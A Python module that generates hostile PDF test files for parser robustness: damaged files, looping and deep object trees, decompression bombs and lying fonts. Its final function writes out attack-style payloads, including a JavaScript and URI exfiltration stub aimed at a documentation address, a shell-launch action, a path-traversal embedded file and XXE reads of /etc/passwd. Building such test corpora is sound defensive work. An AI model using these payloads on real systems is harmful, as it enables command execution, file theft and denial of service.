"""Hostile PDFs: damaged, looping, recursive, absurd in size, lying, with scripts."""

from __future__ import annotations

import zlib
from collections.abc import Iterator, Mapping
from random import Random

from .types import Made, Scale, phrase, sentences

Objects = Mapping[int, bytes]

_CATALOG = b"<</Type/Catalog/Pages 2 0 R>>"
_PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
_FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"


def make(rng: Random, scale: Scale) -> Iterator[Made]:
    """PDF files."""
    many = 20 if scale == "full" else 5
    yield from _damaged(rng, many)
    yield from _trees(rng)
    yield from _recursive(rng, 12 if scale == "full" else 5)
    yield from _boxes(rng)
    yield from _large(rng, 1_000_000 if scale == "full" else 50_000)
    yield from _bombs(rng, 1 << (28 if scale == "full" else 24))
    yield from _lying_fonts(rng)
    yield from _active(rng)


def pdf(objects: Objects, trailer: bytes = b"", header: bytes = b"%PDF-1.7\n") -> bytes:
    """A PDF file of numbered objects; 1 is the catalog."""
    body, places = bytearray(header), {}
    for number, content in objects.items():
        places[number] = len(body)
        body += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    start, size = len(body), max(objects) + 1
    body += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        used = number in places
        body += b"%010d %05d %s \n" % (
            places.get(number, 0),
            0 if used else 65535,
            b"n" if used else b"f",
        )
    body += b"trailer\n<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (size, trailer, start)
    return bytes(body)


def stream(content: bytes, keys: bytes = b"") -> bytes:
    """A stream object."""
    return b"<<%s/Length %d>>\nstream\n%s\nendstream" % (keys, len(content), content)


def packed(content: bytes, keys: bytes = b"") -> bytes:
    """A compressed stream object."""
    return stream(zlib.compress(content, 9), b"/Filter/FlateDecode" + keys)


def shows(text: str) -> bytes:
    """Page content that shows a text, two sentences on two lines."""
    lines = b"".join(b"(%s) Tj T*\n" % part.encode("latin-1") for part in text.split(". "))
    return b"BT /F1 12 Tf 14 TL 72 700 Td\n%sET\n" % lines


def page(content: bytes, resources: bytes = b"", box: bytes = b"[0 0 612 792]") -> dict[int, bytes]:
    """The objects of a file with one page: 4 is its content, 5 its font."""
    return {
        1: _CATALOG,
        2: _PAGES,
        3: b"<</Type/Page/Parent 2 0 R/MediaBox%s/Contents 4 0 R"
        b"/Resources<</Font<</F1 5 0 R>>%s>>>>" % (box, resources),
        4: content,
        5: _FONT,
    }


def _plain(rng: Random) -> tuple[dict[int, bytes], str]:
    said = phrase(rng)
    return page(stream(shows(sentences(said)))), said


def _damaged(rng: Random, many: int) -> Iterator[Made]:
    objects, _ = _plain(rng)
    whole, other = pdf(objects), pdf(_plain(rng)[0])
    for at in range(many):
        cut = len(whole) * (at + 1) // (many + 1)
        yield Made(f"truncated-{at}.pdf", whole[:cut], "truncated")
        flipped = bytearray(whole)
        for _ in range(4 * (at + 1)):
            flipped[rng.randrange(8, len(flipped))] ^= 1 << rng.randrange(8)
        yield Made(f"flipped-{at}.pdf", bytes(flipped), "bit-flips")
        middle = rng.randrange(len(other))
        yield Made(f"spliced-{at}.pdf", whole[:cut] + other[middle:], "spliced")
    objects, said = _plain(rng)
    after_junk = b"junk that a mail server left\r\n" * 20 + pdf(objects)
    yield Made("junk-before.pdf", after_junk, "junk-before", "ok", said)
    objects, said = _plain(rng)
    no_table = pdf(objects).split(b"xref")[0]
    yield Made("no-xref.pdf", no_table, "no-xref", "ok", said)


def _trees(rng: Random) -> Iterator[Made]:
    objects, said = _plain(rng)
    objects[2] = b"<</Type/Pages/Kids[2 0 R 3 0 R]/Count 2>>"
    yield Made("tree-loop.pdf", pdf(objects), "page-tree-loop")
    objects[2] = b"<</Type/Pages/Kids[6 0 R]/Count 1>>"
    objects[6] = b"<</Type/Pages/Parent 2 0 R/Kids[2 0 R]/Count 1>>"
    yield Made("tree-circle.pdf", pdf(objects), "page-tree-loop")
    for name, count in (("huge", b"2147483647"), ("negative", b"-5"), ("real", b"1e99")):
        objects, said = _plain(rng)
        objects[2] = b"<</Type/Pages/Kids[3 0 R]/Count %s>>" % count
        yield Made(f"count-{name}.pdf", pdf(objects), "page-count-lies", "any")
    objects, said = _plain(rng)
    objects[2] = b"<</Type/Pages/Kids[%s]/Count 300>>" % (b"3 0 R " * 300)
    yield Made("same-page.pdf", pdf(objects), "one-page-many-times")
    objects, said = _plain(rng)
    deep = 2000
    objects[2] = b"<</Type/Pages/Kids[10 0 R]/Count 1>>"
    for at in range(deep):
        kid = b"3 0 R" if at == deep - 1 else b"%d 0 R" % (11 + at)
        objects[10 + at] = b"<</Type/Pages/Parent %d 0 R/Kids[%s]/Count 1>>" % (
            max(2, 9 + at),
            kid,
        )
    yield Made("tree-deep.pdf", pdf(objects), "page-tree-deep")
    objects, said = _plain(rng)
    yield Made("prev-loop.pdf", pdf(objects, b"/Prev 9"), "xref-loop", "ok", said)
    objects, _ = _plain(rng)
    inside = b"7 0 6 0 <</Type/ObjStm>> <</Type/Catalog/Pages 2 0 R>>"
    objects[6] = stream(inside, b"/Type/ObjStm/N 2/First 8/Extends 6 0 R")
    objects[1] = b"6 0 R"
    yield Made("object-stream-self.pdf", pdf(objects), "object-stream-self")
    objects, said = _plain(rng)
    objects[1] = b"<</Type/Catalog/Pages 2 0 R/Outlines 6 0 R/PageLabels 8 0 R>>"
    objects[6] = b"<</Type/Outlines/First 7 0 R/Last 7 0 R/Count 1>>"
    objects[7] = b"<</Title(Round)/Parent 6 0 R/First 7 0 R/Next 7 0 R/Dest[3 0 R/Fit]>>"
    objects[8] = b"<</Kids[8 0 R]/Nums[0 8 0 R]>>"
    yield Made("outline-loop.pdf", pdf(objects), "outline-loop", "ok", said)


def _recursive(rng: Random, depth: int) -> Iterator[Made]:
    said = phrase(rng)
    text = shows(sentences(said))
    form = b"/Type/XObject/Subtype/Form/BBox[0 0 600 700]/Resources<</XObject<</X %d 0 R>>>>"
    objects = page(stream(text + b"/X Do\n"), b"/XObject<</X 6 0 R>>")
    objects[6] = stream(b"/X Do\n", form % 6)
    yield Made("form-in-itself.pdf", pdf(objects), "form-recursion", "any", said)
    said = phrase(rng)
    objects = page(stream(shows(sentences(said)) + b"/X Do\n"), b"/XObject<</X 6 0 R>>")
    for at in range(depth):  # ten times the next one each: 10 ** depth in all
        objects[6 + at] = stream(b"/X Do\n" * 10, form % (7 + at))
    objects[6 + depth] = stream(b"0 0 1 1 re f\n", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]")
    yield Made("form-tenfold.pdf", pdf(objects), "form-explosion")
    said = phrase(rng)
    pattern = (
        b"/Type/Pattern/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 9 9]/XStep %s/YStep %s"
        b"/Resources<</Pattern<</P 6 0 R>>>>"
    )
    fill = b"/Pattern cs /P scn 0 0 600 700 re f\n"
    for name, step in (("self", b"9"), ("tiny", b"0.0001"), ("zero", b"0")):
        said = phrase(rng)
        objects = page(stream(shows(sentences(said)) + fill), b"/Pattern<</P 6 0 R>>")
        inner = fill if name == "self" else b"0 0 5 5 re f\n"
        objects[6] = stream(inner, pattern % (step, step))
        yield Made(
            f"pattern-{name}.pdf",
            pdf(objects),
            "pattern-recursion",
            "any",
            "" if name == "self" else said,
        )
    said = phrase(rng)
    objects = page(stream(shows(sentences(said)) + b"BT /T3 9 Tf 9 9 Td (aaaa) Tj ET\n"), b"")
    objects[3] = objects[3].replace(b"/F1 5 0 R", b"/F1 5 0 R/T3 6 0 R")
    objects[6] = (
        b"<</Type/Font/Subtype/Type3/FontBBox[0 0 9 9]/FontMatrix[.1 0 0 .1 0 0]/FirstChar 97"
        b"/LastChar 97/Widths[9]/Encoding<</Differences[97/a]>>/CharProcs<</a 7 0 R>>"
        b"/Resources<</Font<</T3 6 0 R>>>>>>"
    )
    objects[7] = stream(b"9 0 d0 BT /T3 9 Tf (aaaa) Tj ET\n")
    yield Made("type3-in-itself.pdf", pdf(objects), "font-recursion", "any", said)
    deep = 100_000
    said = phrase(rng)
    objects = page(stream(b"[" * deep + b"]" * deep + b" TJ\n" + shows(sentences(said))))
    yield Made("arrays-deep.pdf", pdf(objects), "deep-nesting")
    said = phrase(rng)
    objects = page(stream(shows(sentences(said)) + b"q " * deep))
    objects[6] = b"<</A" * deep + b">>" * deep
    yield Made("states-deep.pdf", pdf(objects), "deep-nesting")


def _boxes(rng: Random) -> Iterator[Made]:
    boxes = {
        "zero": b"[0 0 0 0]",
        "inverted": b"[612 792 0 0]",
        "negative": b"[-9000 -9000 -8000 -8000]",
        "billion": b"[0 0 1000000000 1000000000]",
        "beyond": b"[0 0 1e300 1e300]",
        "nan": b"[0 0 nan inf]",
        "words": b"[(a) /b null true]",
        "short": b"[0 0]",
        "thread": b"[0 0 0.0001 800000]",
        "loop": b" 3 0 R",
    }
    for name, box in boxes.items():
        said = phrase(rng)
        objects = page(stream(shows(sentences(said))), box=box)
        must = said if name in ("inverted", "words", "short") else ""
        yield Made(f"box-{name}.pdf", pdf(objects), "page-box", "any", must)
    objects, said = _plain(rng)
    objects[3] = objects[3].replace(
        b"/Contents", b"/UserUnit 1e30/Rotate 33/CropBox[0 0 nan 1]/Contents"
    )
    yield Made("box-unit.pdf", pdf(objects), "page-box", "any")


def _large(rng: Random, many: int) -> Iterator[Made]:
    said = phrase(rng)
    dots = b"".join(b"%d %d 1 1 re f\n" % (at % 600, at // 600 % 700) for at in range(5000))
    objects = page(packed(shows(sentences(said)) + dots * (many // 5000)))
    yield Made("drawings.pdf", pdf(objects), "tiny-drawings", "any", said)
    said = phrase(rng)
    curve = b"1 1 m " + b"5 9 9 5 %d 7 c " * 1000 % tuple(range(1000)) + b"S\n"
    objects = page(packed(shows(sentences(said)) + curve * (many // 1000)))
    yield Made("curves.pdf", pdf(objects), "tiny-drawings", "any", said)
    said = phrase(rng)
    letters = b"".join(b"1 0 0 1 %d %d Tm (x) Tj\n" % (at % 600, at % 790) for at in range(1000))
    content = shows(sentences(said)) + b"BT /F1 1 Tf\n" + letters * (many // 10_000) + b"ET\n"
    yield Made("letters.pdf", pdf(page(packed(content))), "scattered-letters", "any")
    objects, said = _plain(rng)
    notes = min(many // 10, 20_000)
    objects[3] = objects[3].replace(b"/Contents", b"/Annots[%s]/Contents" % (b"6 0 R " * notes))
    objects[6] = b"<</Type/Annot/Subtype/Square/Rect[9 9 20 20]/C[1 0 0]/Contents(note)>>"
    yield Made("annotations.pdf", pdf(objects), "annotations", "any", said)


def _image(width: int, height: int, body: bytes, keys: bytes) -> bytes:
    head = b"/Type/XObject/Subtype/Image/Width %d/Height %d" % (width, height)
    return stream(body, head + keys)


def _bombs(rng: Random, size: int) -> Iterator[Made]:
    grey = b"/ColorSpace/DeviceGray/BitsPerComponent 8/Filter/FlateDecode"
    bits = b"/ColorSpace/DeviceGray/BitsPerComponent 1/Filter/FlateDecode"
    colour = b"/ColorSpace/DeviceRGB/BitsPerComponent 8/Filter/FlateDecode"
    tiny = zlib.compress(bytes(1000))
    images = {
        "bits": _image(20_000, 20_000, zlib.compress(bytes(min(size, 50_000_000)), 9), bits),
        "grey": _image(20_000, 20_000, zlib.compress(bytes(min(size, 400_000_000)), 9), grey),
        "colour": _image(20_000, 20_000, zlib.compress(bytes(size), 9), colour),
        "lies": _image(2_000_000_000, 2_000_000_000, tiny, grey),
        "zero": _image(0, -7, tiny, grey),
        "jpeg": _image(60_000, 60_000, b"\xff\xd8\xff\xe0no", b"/Filter/DCTDecode"),
        "fax": _image(60_000, 60_000, tiny, b"/BitsPerComponent 1/Filter/CCITTFaxDecode"),
        "jbig": _image(60_000, 60_000, tiny, b"/BitsPerComponent 1/Filter/JBIG2Decode"),
        "jpx": _image(60_000, 60_000, b"\0\0\0\x0cjP  ", b"/Filter/JPXDecode"),
        "mask": _image(9, 9, tiny, grey + b"/SMask 6 0 R"),
    }
    for name, image in images.items():
        said = phrase(rng)
        content = shows(sentences(said)) + b"q 400 0 0 400 50 100 cm /I Do Q\n"
        objects = page(stream(content), b"/XObject<</I 6 0 R>>")
        objects[6] = image
        yield Made(f"image-{name}.pdf", pdf(objects), "image-bomb", "any", said)
    said = phrase(rng)
    spaces = shows(sentences(said)) + b" " * size
    yield Made("spaces.pdf", pdf(page(packed(spaces))), "flate-bomb", "any")
    twice = zlib.compress(zlib.compress(b" " * size, 9), 9)
    objects = page(stream(twice, b"/Filter[/FlateDecode/FlateDecode]"))
    yield Made("spaces-twice.pdf", pdf(objects), "flate-bomb")
    objects = page(stream(b"x\x9c" * 50, b"/Filter[%s]" % (b"/FlateDecode" * 5000)))
    yield Made("filters.pdf", pdf(objects), "filter-chain")
    text = b"BT /F1 9 Tf " + b"(word word word) Tj " * (size // 20_000) + b"ET"
    yield Made("words.pdf", pdf(page(packed(text))), "text-bomb")


def _lying_fonts(rng: Random) -> Iterator[Made]:
    maps = {
        "one-letter": b"<00> <ff> <0041>",
        "controls": b"<00> <ff> <001b>",
        "right-to-left": b"<00> <ff> <202e>",
        "surrogate": b"<00> <ff> <d800>",
        "long": b"<41> <41> <" + b"0041" * 5000 + b">",
        "private": b"<00> <ff> <e000>",
    }
    for name, entries in maps.items():
        kind = b"bfchar" if name == "long" else b"bfrange"
        if kind == b"bfchar":
            entries = entries.replace(b"<41> <41>", b"<41>")
        cmap = b"/CIDInit /ProcSet findresource begin begincmap 1 begincodespacerange <00> <ff> "
        cmap += b"endcodespacerange 1 begin%s %s end%s endcmap end" % (kind, entries, kind)
        objects, _ = _plain(rng)
        objects[5] = _FONT[:-2] + b"/ToUnicode 6 0 R>>"
        objects[6] = stream(cmap)
        yield Made(f"font-{name}.pdf", pdf(objects), "font-lies")
    objects, _ = _plain(rng)
    objects[5] = b"<</Type/Font/Subtype/TrueType/BaseFont/X/FontDescriptor 6 0 R>>"
    objects[6] = b"<</Type/FontDescriptor/FontName/X/Flags 4/FontFile2 7 0 R>>"
    objects[7] = stream(rng.randbytes(5000), b"/Length1 99999999")
    yield Made("font-noise.pdf", pdf(objects), "font-damaged")


def _active(rng: Random) -> Iterator[Made]:
    actions = {
        "script": b"<</S/JavaScript/JS(app.launchURL\\('http://192.0.2.1/'\\);while\\(1\\);)>>",
        "launch": b"<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)/P(/c calc)>>>>",
        "address": b"<</S/URI/URI(http://192.0.2.1/steal)>>",
        "remote": b"<</S/GoToR/F(\\\\\\\\192.0.2.1\\\\share\\\\x.pdf)/D[0/Fit]>>",
        "form": b"<</S/SubmitForm/F<</FS/URL/F(http://192.0.2.1/)>>>>",
    }
    for name, action in actions.items():
        objects, said = _plain(rng)
        objects[1] = b"<</Type/Catalog/Pages 2 0 R/OpenAction 6 0 R/AA<</WC 6 0 R>>>>"
        objects[6] = action
        yield Made(f"action-{name}.pdf", pdf(objects), "action", "ok", said)
    objects, said = _plain(rng)
    objects[1] = (
        b"<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles<</Names[(x)6 0 R]>>>>"
        b"/AcroForm<</XFA 8 0 R/Fields[9 0 R]>>>>"
    )
    objects[6] = b"<</Type/Filespec/F(../../../etc/cron.d/x)/UF(../../x)/EF<</F 7 0 R>>>>"
    objects[7] = packed(b"* * * * * root true\n" * 100_000)
    objects[8] = stream(b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>')
    objects[9] = b"<</FT/Tx/T(a)/V(b)/Kids[9 0 R]/Parent 9 0 R>>"
    yield Made("embedded.pdf", pdf(objects), "embedded-files", "ok", said)
    objects, said = _plain(rng)
    objects[6] = stream(b"", b"/F(/etc/passwd)/FFilter/ASCIIHexDecode")
    objects[3] = objects[3].replace(b"/Contents 4 0 R", b"/Contents[4 0 R 6 0 R]")
    yield Made("external-stream.pdf", pdf(objects), "external-file", "ok", said)
